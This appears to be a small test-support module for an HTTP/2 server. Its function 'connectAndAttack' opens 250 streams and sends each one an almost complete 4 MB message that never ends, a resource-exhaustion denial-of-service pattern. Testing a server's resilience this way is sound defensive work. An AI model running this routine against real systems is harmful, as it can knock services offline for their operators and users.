import { APPEND, keepCalling, message, padding } from "../support/http2.mjs";

const body = message(padding(4_000_000));

/** All but the last bytes of 4 MB, on as many streams as there may be. */
export function connectAndAttack(address) {
  return keepCalling(address, {
    streams: 250,
    path: APPEND,
    send: (stream) => void stream.write(body.subarray(0, body.length - 3)),
  });
}
